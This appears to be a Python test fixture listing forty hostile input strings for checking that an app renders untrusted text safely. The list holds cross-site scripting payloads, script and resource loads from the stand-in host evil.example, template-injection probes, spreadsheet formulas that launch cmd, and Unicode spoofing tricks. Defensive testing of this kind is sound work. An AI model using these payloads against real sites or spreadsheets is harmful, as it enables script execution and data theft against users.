"""Forty strings that would act if anything let them: `canary()` says that it did, `evil.example` is asked if it did."""

LONGEST = "<img src=x onerror=canary(40)>" * 60

HOSTILE = (
    # Script
    "<script>canary(1)</script>",
    "</script><script src=http://evil.example/2.js></script>",
    "<img src=http://evil.example/3.png onerror=canary(3)>",
    "<svg/onload=canary(4)>",
    "<iframe srcdoc='<script>parent.canary(5)</script>'></iframe>",
    "<object data=http://evil.example/6></object><embed src=http://evil.example/6>",
    "<details open ontoggle=canary(7)>x</details>",
    "<math><mtext></mtext><img src=x onerror=canary(8)></math>",
    "<a href='javascript:canary(9)'>x</a>",
    "javascript:canary(10)//",
    "<form action=http://evil.example/11><button autofocus onfocus=canary(11)>x</button></form>",
    "<base href=http://evil.example/12/><meta http-equiv=refresh content='0;url=http://evil.example/12'>",
    # Out of an attribute, a text area, a comment, a title
    '" onmouseover=canary(13) autofocus onfocus=canary(13) x="',
    "' onfocus='canary(14)' autofocus='",
    '"><img src=x onerror=canary(15)>',
    "'><svg onload=canary(16)>",
    "</textarea><script>canary(17)</script><textarea>",
    "</option></select><img src=x onerror=canary(18)>",
    "--></title></style></noscript><img src=x onerror=canary(19)>",
    "&quot; onload=canary(20) &lt;script&gt;canary(20)&lt;/script&gt; &#60;img src=x onerror=canary(20)&#62;",
    "`-canary(21)-`${canary(21)}",
    '\\"-canary(22)}]);//',
    # Templates and formats
    "{{ 7 * 7 }}{% print(1) %}{{ canary }}",
    "((reference)) ((if place is not missing))((place))((end))",
    "${7*7} #{7*7} <%= 7*7 %> %(name)s %s {0} {name}",
    "{{ self.__init__.__globals__ }}",
    # Markdown, as Streamlit draws it
    "![x](http://evil.example/27.png)",
    "[x](javascript:canary(28)) [y](http://evil.example/28)",
    "**b** _i_ `c` ~~d~~ $x^2$ :red[r] :material/home: # h",
    "<http://evil.example/30> http://evil.example/30 //evil.example/30",
    # Other ways of writing, and what cannot be seen
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "\u2028canary(32)\u2029<\u200bscript>canary(32)</script>",
    "\uff1cscript\uff1ecanary(33)\uff1c/script\uff1e \u2039img src=x onerror=canary(33)\u203a",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0361\u0300\u031b\u0321l\u034e\u0317g\u0334o\u0337",
    # Formulas
    '=HYPERLINK("http://evil.example/35","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    # Styles, and more than there is room for
    "x;background:url(http://evil.example/39)}*{background:url(http://evil.example/39)}<style>@import'//evil.example/39'</style>",
    LONGEST,
)
